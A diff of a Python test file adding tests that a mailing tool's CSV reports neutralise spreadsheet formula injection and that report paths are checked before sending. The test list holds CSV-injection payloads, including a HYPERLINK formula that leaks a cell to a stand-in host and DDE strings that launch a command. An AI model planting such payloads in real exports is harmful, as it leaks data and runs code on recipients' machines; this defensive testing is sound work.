@@ -1,4 +1,5 @@
-"""Reports, the summary, how outcomes are filed, and the progress lines."""
+"""Reports (safe to open in a spreadsheet, proven writable before sending), the summary,
+how outcomes are filed, and the progress lines."""
 
 from __future__ import annotations
 
@@ -22,9 +23,18 @@ from mailkit_async import (
 from mailkit_async._batch import Outcome
 from mailkit_async._cli._exit import CliError
 from mailkit_async._cli._journal import ReportRow
+from mailkit_async._cli._kinds import classify_outcome
 from mailkit_async._cli._progress import bar_line, plain_line
-from mailkit_async._cli._report import COLUMNS, Summary, print_summary, write_report
-from mailkit_async._cli._run import classify_outcome
+from mailkit_async._cli._report import (
+    COLUMNS,
+    Summary,
+    check_report_target,
+    print_summary,
+    spreadsheet_safe,
+    write_report,
+)
+
+from ._cli_support import read_report, run_cli
 
 ROWS = [
     ReportRow("jane@example.com", "queued", "OK", 12345678, None, 1),
@@ -133,3 +143,72 @@ def test_progress_lines() -> None:
     assert plain_line("wipe", 0, 10, 0.0, None, Counter()) == (
         "wipe: 0/10 done (0%), 0/s, ETA --:--; nothing yet"
     )
+
+
+HOSTILE = [
+    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3@example.com",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    rows = [ReportRow(text, "invalid_input", text, None, text, 0) for text in HOSTILE]
+    rows.append(ReportRow("jane@example.com", "queued", "OK", -5, None, 1))  # a number stays
+    path = tmp_path / "r.csv"
+    write_report(str(path), iter(rows))
+    with path.open(encoding="utf-8", newline="") as file:
+        cells = list(csv.reader(file))[1:]
+    for text, row in zip(HOSTILE, cells, strict=False):
+        assert row[0] == row[2] == row[4] == "'" + text
+    assert cells[-1] == ["jane@example.com", "queued", "OK", "-5", "", "1"]
+    raw = path.read_text(encoding="utf-8")
+    assert '"jane@example.com","queued","OK",-5,"",1' in raw  # every text cell quoted
+
+
+def test_jsonl_reports_keep_raw_values(tmp_path: Path) -> None:
+    path = tmp_path / "r.jsonl"
+    write_report(
+        str(path), iter([ReportRow(text, "error", None, None, None, 0) for text in HOSTILE])
+    )
+    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
+    assert [line["recipient"] for line in lines] == HOSTILE
+
+
+def test_only_the_owasp_starts_are_neutralised() -> None:
+    for text in ("=x", "+x", "-x", "@x", "\tx", "\rx"):
+        assert spreadsheet_safe(text) == "'" + text
+    for value in ("x=1", " =1", "'=1", "jane@example.com", "", 12, -12):
+        assert spreadsheet_safe(value) == value
+    assert spreadsheet_safe(None) == ""
+
+
+def test_report_target_is_checked_before_anything_is_sent(tmp_path: Path) -> None:
+    check_report_target(str(tmp_path / "r.csv"))
+    assert list(tmp_path.iterdir()) == []  # the probe is gone
+    with pytest.raises(CliError, match="no such directory"):
+        check_report_target(str(tmp_path / "missing" / "r.csv"))
+    (tmp_path / "d.csv").mkdir()
+    with pytest.raises(CliError, match="is a directory"):
+        check_report_target(str(tmp_path / "d.csv"))
+
+
+def test_addresses_that_look_like_formulas_are_sent_and_shown_as_text(tmp_path: Path) -> None:
+    """`=1+1@example.com` is a valid address: queued, and harmless in the spreadsheet."""
+    source = tmp_path / "in.txt"
+    source.write_text("=1+1@example.com\n-2+3@example.com\n", encoding="utf-8")
+    for suffix in ("csv", "jsonl"):
+        report = tmp_path / f"r.{suffix}"
+        done = run_cli(
+            "wipe", "--emulator", str(source), "--report", str(report),
+            "--journal", str(tmp_path / f"{suffix}.sqlite"),
+        )  # fmt: skip
+        assert done.returncode == 0, done.stderr
+        prefix = "'" if suffix == "csv" else ""
+        assert [(row["recipient"], row["status"]) for row in read_report(report)] == [
+            (prefix + "=1+1@example.com", "queued"),
+            (prefix + "-2+3@example.com", "queued"),
+        ]
